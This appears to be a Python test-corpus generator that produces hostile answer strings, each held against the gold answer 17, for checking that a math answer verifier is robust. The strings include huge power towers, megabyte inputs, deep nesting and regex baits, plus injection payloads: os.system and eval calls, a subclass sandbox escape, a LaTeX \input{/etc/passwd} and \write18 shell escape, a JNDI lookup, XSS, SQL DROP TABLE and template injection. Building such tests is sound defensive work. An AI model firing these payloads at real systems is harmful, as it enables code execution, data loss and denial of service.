"""Answers made to hurt a verifier, by families, the same at every run; and honest ones to put beside them."""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass

MEGABYTE = 1_000_000
DEEP = 100_000


@dataclass(frozen=True)
class Hostile:
    """One response of the corpus, with the gold answer it is held against."""

    family: str
    response: str
    gold: str


def box(content: str) -> str:
    return f"The answer is \\boxed{{{content}}}."


def nested(opening: str, inner: str, closing: str, depth: int) -> str:
    return opening * depth + inner + closing * depth


def towers() -> Iterator[str]:
    for height in range(3, 9):
        for base in (2, 3, 9, 10, 99):
            yield box(nested(f"{base}^{{", str(base), "}", height))
    for text in ("9**9**9**9", "9^9^9^9", "(10^10)^(10^10)", "2^(2^(2^(2^(2^2))))", "-9^(9^(9^9))"):
        yield f"The answer is {text}"


def factorials() -> Iterator[str]:
    for n in (9, 20, 99, 1000, 12345, 10**6, 10**9):
        for marks in (2, 3, 5):
            yield box(nested("(", f"{n}!", ")!", marks - 1))
        yield box(f"{n}!")
        yield box(f"\\binom{{{n}^9}}{{{n}^8}}")


def powers() -> Iterator[str]:
    for exponent in (10**4, 10**5, 10**6, 10**7, 10**8, 10**9, 10**12):
        yield box(f"7^{{{exponent}}}")
        yield box(f"\\left(\\frac{{3}}{{7}}\\right)^{{{exponent}}}")
        yield box(f"(x+y)^{{{exponent}}}")
        yield box(f"\\sqrt[{exponent}]{{2}}^{{{exponent - 1}}}")


def braces() -> Iterator[str]:
    for depth in (20, 33, 50, 100, 300, 1000, 10_000, DEEP):
        yield box(nested("{", "1", "}", depth))
        yield box(nested("{", "1", "", depth))
        yield nested("\\boxed{", "1", "}", depth)
        yield nested("\\boxed{", "1", "", depth)
        yield f"${nested('{', '1', '}', depth)}$"
        yield "}" * depth + box("1")


def brackets() -> Iterator[str]:
    for depth in (10, 30, 100, 1000):
        yield box(nested("(", "1", ")", depth))
        yield box(nested("\\left(", "1", "\\right)", depth))
        yield box(nested("[", "1", "]", depth))
        yield box(nested("|", "1", "|", depth))
        yield f"The answer is {nested('(', '1+1', ')', depth)}"


def trees() -> Iterator[str]:
    for depth in (5, 8, 12, 20, 30, 100):
        yield box(nested("\\frac{1}{1+", "1", "}", depth))
        yield box(nested("\\sqrt{2+", "2", "}", depth))
        yield box(nested("\\sin(", "x", ")", depth))
        yield box(nested("\\log_{2}{(", "9", ")}", depth))
        yield box(nested("\\int_0^1 ", "x", " dx", depth))


def megabytes() -> Iterator[str]:
    for piece in ("9", "a", " ", "$", "\\", "{", "}", "\\boxed", "\\boxed{", "\\boxed{1}", "1,", "\\frac", "\n", "= "):
        yield piece * (MEGABYTE // len(piece))
    for piece in ("9", "a ", "+1", "x^2+", "\\,", "\\$", "cm ", "1,234,"):
        yield box(piece * (MEGABYTE // len(piece)))
        yield box("52") + piece * (MEGABYTE // len(piece))


def digits() -> Iterator[str]:
    for n in (100, 1000, 4000, 4300, 4301, 5000, 20_000, 100_000):
        yield box("7" * n)
        yield box("0." + "3" * n)
        yield f"The answer is {'7' * n}"
        yield box(f"\\frac{{{'7' * n}}}{{{'3' * n}}}")


def decimals() -> Iterator[str]:
    for digit in "1379":
        yield box(f"0.{digit * 20}\\ldots")
        yield box(f"0.{digit * 3}...")
        yield box(f"0.\\overline{{{digit}}}")
        yield box(f"0.({digit})")
        yield box(f"0.\\dot{{{digit}}}")
        yield box(f"{digit}e{digit * 6}")
        yield box(f"{digit}.{digit}E-{digit * 9}")
        yield f"The answer is 0.{digit * 5000}"


CONTROL = ["\x00", "\x01", "\x07", "\x08", "\x1b[2J", "\x7f", "\x85", "\x9b"]
BIDI = ["\u202e", "\u202d", "\u2066", "\u2067", "\u200f", "\u061c"]
ODD = ["\ud800", "\udfff", "\ufeff", "\u200b", "\ufffe", "\U0010ffff", "e\u0301" * 50, "\U0001f9ee"]


def characters(pieces: list[str]) -> Callable[[], Iterator[str]]:
    def texts() -> Iterator[str]:
        for piece in pieces:
            yield box(f"5{piece}2")
            yield box(f"{piece}52")
            yield f"{piece}\\boxed{{52}}"
            yield f"The answer is 5{piece}2"
            yield box(piece * 1000)

    return texts


CODE = [
    "__import__('os').system('touch {path}')",
    "eval(compile('open(\"{path}\",\"w\")','','exec'))",
    "open('{path}','w').write('x')",
    "().__class__.__base__.__subclasses__()",
    "(lambda f: f(f))(lambda f: f(f))",
    "\\input{{/etc/passwd}}",
    "\\immediate\\write18{{touch {path}}}",
    "\\def\\x{{\\x\\x}}\\x",
    "${{jndi:ldap://example.invalid/a}}",
    "<script>alert(1)</script>",
    "'; DROP TABLE verdicts; --",
    "{{{{7*7}}}}",
]


def code(path: str = "/tmp/p2o-hostile") -> Iterator[str]:
    for text in CODE:
        yield box(text.format(path=path))
        yield "The answer is " + text.format(path=path)
        yield f"$1+{text.format(path=path)}$"


def matrices() -> Iterator[str]:
    for size in (10, 30, 100, 300):
        for kind in ("pmatrix", "vmatrix"):
            rows = " \\\\ ".join(" & ".join(str(r * c % 7) for c in range(size)) for r in range(size))
            yield box(f"\\begin{{{kind}}}{rows}\\end{{{kind}}}")
            yield f"\\begin{{{kind}}}{rows}\\end{{{kind}}}"
    for size in (3, 5, 8):
        rows = " \\\\ ".join(" & ".join(f"x_{{{r}{c}}}" for c in range(size)) for r in range(size))
        yield box(f"\\det\\begin{{pmatrix}}{rows}\\end{{pmatrix}}^{{{10**size}}}")


def unclosed() -> Iterator[str]:
    for text in (
        "\\begin{pmatrix} 1 & 2",
        "\\left( 1",
        "\\frac{1",
        "\\frac",
        "\\sqrt[3",
        "\\text{",
        "1 \\\\ ",
        "^",
        "_{",
    ):
        yield "\\boxed{" + text
        yield box(text)
        yield f"$${text}"
        yield f"\\[ {text}" * 200


def sums() -> Iterator[str]:
    for top in ("10^{9}", "10^{99}", "\\infty", "9!!"):
        yield box(f"\\sum_{{n=1}}^{{{top}}} \\frac{{1}}{{n^2 \\cdot n!}}")
        yield box(f"\\prod_{{n=1}}^{{{top}}} (1 + \\frac{{1}}{{n}})")
        yield box(f"\\lim_{{x \\to {top}}} x^x \\sin(x^x)")
        yield box(f"\\int_{{0}}^{{{top}}} e^{{-x^{{x}}}} \\sin(\\tan x) dx")
        yield box(f"\\log_{{2}}({top}) + \\sin({top})")


def collections() -> Iterator[str]:
    for n in (50, 500, 1000, 5000):
        items = ", ".join(map(str, range(n)))
        yield box(f"\\{{{items}\\}}")
        yield box(f"({items})")
        yield box(" \\cup ".join(f"[{i}, {i + 1})" for i in range(n)))
        yield box(" = ".join(f"x_{i}" for i in range(n)))
        yield box(" + ".join(f"x_{{{i}}}^{{{i}}}" for i in range(n)))
        yield box("".join(f"(x-{i})" for i in range(n)))


def baits() -> Iterator[str]:
    for n in (300, 3000, 30_000):
        for piece in ("$$", "$1$ and ", "\\[", "\\(", "\\[ \\boxed{", "answer: ", "final answer is ", "1 000,", "=1/"):
            yield piece * n
        yield box("1" + "\\, " * n + "cm!")
        yield box("1 " + "ab " * n + "!")
        yield box("1" + "\\ " * n)


def numerals() -> Iterator[str]:
    for text in ("٥٢", "52", "五十二", "⁵²", "𝟝𝟚", "५२", "Ⅼ", "½", "5\u00a02", "∞", "5²", "√52", "5⁄2", "∑∏∫"):
        yield box(text)
        yield f"The answer is {text}"


def soup() -> Iterator[str]:
    pieces = ["\\frac", "{", "}", "^", "_", "9", "!", "\\sqrt", "(", ")", "\\left", "\\right", "$", "&", "\\\\", "x"]
    pieces += [",", "\\begin{cases}", "\\end{cases}", "\\sum", "\\infty", "=", "\\boxed{", "10^", "|", "\\text{"]
    pieces += ["%", "\\pm"]
    rng = random.Random(20)
    for _ in range(120):
        yield box("".join(rng.choices(pieces, k=rng.randint(3, 40))))


FAMILIES: dict[str, Callable[[], Iterator[str]]] = {
    "towers of powers": towers,
    "factorials of factorials": factorials,
    "large powers": powers,
    "nested braces and boxes": braces,
    "nested brackets": brackets,
    "nested fractions, roots, functions": trees,
    "a megabyte": megabytes,
    "thousands of digits": digits,
    "infinite decimals": decimals,
    "control characters": characters(CONTROL),
    "bidirectional characters": characters(BIDI),
    "surrogates and other oddities": characters(ODD),
    "code": code,
    "giant matrices": matrices,
    "unclosed": unclosed,
    "sums, limits, integrals": sums,
    "sets and chains": collections,
    "baits for regular expressions": baits,
    "numerals of other scripts": numerals,
    "random LaTeX": soup,
}


def corpus() -> list[Hostile]:
    """All families; the gold answer is always 17, which none of the responses says."""
    return [Hostile(family, response, "17") for family, texts in FAMILIES.items() for response in texts()]


def hanging(count: int) -> list[tuple[str, str]]:
    """Different responses that keep sympy expanding for minutes, with a gold answer."""
    return [(box(f"(x+y)^{{{10_000 + i}}}"), "17") for i in range(count)]


def huge(count: int) -> list[tuple[str, str]]:
    """Different responses that would hang inside one integer power, with a gold answer."""
    return [(box(f"10^{{10^{{10^{{{10 + i}}}}}}}"), "17") for i in range(count)]


def honest(count: int, seed: int = 0) -> list[tuple[str, str]]:
    """Different pairs as in MATH, half of them right: numbers, fractions, roots, intervals, polynomials, units."""
    rng = random.Random(seed)
    shapes = [
        lambda a, b, c: f"{a * b}",
        lambda a, b, c: f"\\frac{{{a}}}{{{b}}}",
        lambda a, b, c: f"{a}\\sqrt{{{b}}} + {c}",
        lambda a, b, c: f"\\left[ {a}, \\frac{{{a + b}\\pi}}{{{c}}} \\right)",
        lambda a, b, c: f"{a}x^2 - {b}x + {c}",
        lambda a, b, c: f"({a}, {b}, -{c})",
        lambda a, b, c: f"{a}.{b} \\text{{ cm}}^2",
        lambda a, b, c: f"\\begin{{pmatrix}} {a} \\\\ {b} \\\\ {c} \\end{{pmatrix}}",
    ]
    pairs: dict[tuple[str, str], None] = {}
    while len(pairs) < count:
        shape, numbers = rng.choice(shapes), [rng.randint(2, 99) for _ in range(3)]
        gold = shape(*numbers)
        numbers[0] += rng.randint(0, 1)
        pairs[box(shape(*numbers)), gold] = None
    return list(pairs)
